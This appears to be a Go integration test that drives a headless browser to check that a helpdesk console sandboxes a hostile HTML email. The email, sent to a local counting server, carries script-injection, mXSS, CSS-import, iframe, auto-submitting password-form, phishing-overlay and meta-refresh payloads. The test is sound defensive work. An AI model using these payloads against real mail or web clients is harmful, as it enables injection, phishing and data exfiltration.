//go:build integration

package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostileHTML is a letter that wants to run, load, lead away and cover; $ is a server that
// counts who comes.
const hostileHTML = `<p>Delete my personal data.</p><table border="1"><tr><td>one</td><td style="color:#a00">two</td></tr></table>
<script>top.document.title="pwned"; fetch("$/script")</script><script src="$/script.js"></script>
<img src="$/img" onerror='top.document.title="pwned"'><img src=x onerror='top.location="$/top"'><svg onload='top.document.title="pwned"'><image href="$/svg"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=$/mutated onerror=top.document.title='pwned'&gt;"></table></mtext></math>
<link rel="stylesheet" href="$/css"><style>@import "$/import"; body { background: url($/body) }</style><p style="background:url($/style)">x</p>
<div style="position:fixed;inset:0;background:#fff;z-index:99">Your session has ended</div>
<iframe src="$/iframe"></iframe><iframe srcdoc="<img src='$/srcdoc'>"></iframe><object data="$/object"></object><embed src="$/embed">
<video src="$/video" poster="$/poster" autoplay></video><body background="$/background"><base href="$/"><img src="relative">
<form action="$/form" method="post"><input name="password" autofocus onfocus="top.document.title='pwned'"></form><script>document.forms[0].submit()</script>
<a id="away" href="$/link" target="_top">press</a><script>document.getElementById("away").click()</script><meta http-equiv="refresh" content="0;url=$/refresh">`

// stranger is a server of somebody else's.
func stranger(t *testing.T) (url string, came *atomic.Int32) {
	t.Helper()
	came = new(atomic.Int32)
	s := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { came.Add(1) }))
	t.Cleanup(s.Close)
	return s.URL, came
}

// settled waits for a frame to have loaded and drawn, whatever it wanted to do meanwhile.
const settled = `new Promise(done => { const f = document.querySelector("iframe"), end = () => { let n = 30; const frame = () => n-- ? requestAnimationFrame(frame) : done(true); frame() };
	f.addEventListener("load", end); for (const d of document.querySelectorAll("details")) d.open = true; f.loading = "eager"; f.scrollIntoView(); if (!f.closest("details")) f.src = f.src })`

// The HTML of a letter is shown; nothing of it runs, loads, or leads away. Its frame
// alone would hold it, too, if the sanitiser let everything through.
func TestIntegrationConsoleFramesHTML(t *testing.T) {
	d := newDesk(t)
	evil, came := stranger(t)
	letter := strings.ReplaceAll(hostileHTML, "$", evil)
	m := incoming{from: aigul.email, name: aigul.name, subject: "Erase my data", body: letter, html: true}
	n := d.asks(m)
	b := startChromium(t).tab()
	d.login(b, "aliya@desk.test")
	path := d.origin + "/requests/" + string(n)
	b.open(path)
	ask[bool](b, settled)
	for _, width := range []int64{390, 1280} {
		b.size(width, "dark")
		b.shoot(fmt.Sprintf("frame-%d", width))
		b.axe("frame")
	}
	title := func() string { return ask[string](b, `document.title`) }
	if at := ask[string](b, `location.href`); at != path || !strings.Contains(title(), string(n)) || came.Load() != 0 {
		t.Errorf("the page is %s, %q; %d requests left", at, title(), came.Load())
	}
	if ask[bool](b, `document.querySelector("iframe").contentDocument !== null`) {
		t.Error("the frame has our origin")
	}
	b.onlyFrom(d.origin)
	policy := ask[string](b, fmt.Sprintf(`fetch("/requests/%s/letter.html").then(r => r.headers.get("content-security-policy"))`, n))
	b.open(path + "/letter.html") // alone, as whoever copies its address would
	if text := ask[string](b, `document.body.innerText`); !strings.Contains(text, "Delete my personal data.") || !ask[bool](b, `origin === "null" && document.querySelectorAll("body a[href], img, script, form, [onload]").length === 0`) || came.Load() != 0 {
		t.Errorf("the letter alone: %q, %d requests left", text, came.Load())
	}

	for _, c := range []struct {
		frame, policy string
		held          bool
	}{{"<iframe src=/raw>", "", false}, {"<iframe sandbox src=/raw>", policy, true}, {"<iframe src=/raw>", policy, true}} {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			if r.URL.Path != "/raw" {
				fmt.Fprint(w, "<title>ours</title>", c.frame)
				return
			}
			if c.policy != "" {
				w.Header().Set("Content-Security-Policy", c.policy)
			}
			fmt.Fprint(w, letter)
		}))
		came.Store(0)
		b.open(s.URL)
		if !c.held {
			d.until("the letter without a policy calls home", func() bool { return came.Load() > 3 })
		} else if ask[bool](b, settled); came.Load() != 0 || title() != "ours" || ask[string](b, `location.href`) != s.URL+"/" {
			t.Errorf("%s with the policy: %d requests left, the page is %q", c.frame, came.Load(), title())
		}
		b.do("leave", chromedp.Navigate("about:blank"))
		s.Close()
	}
}
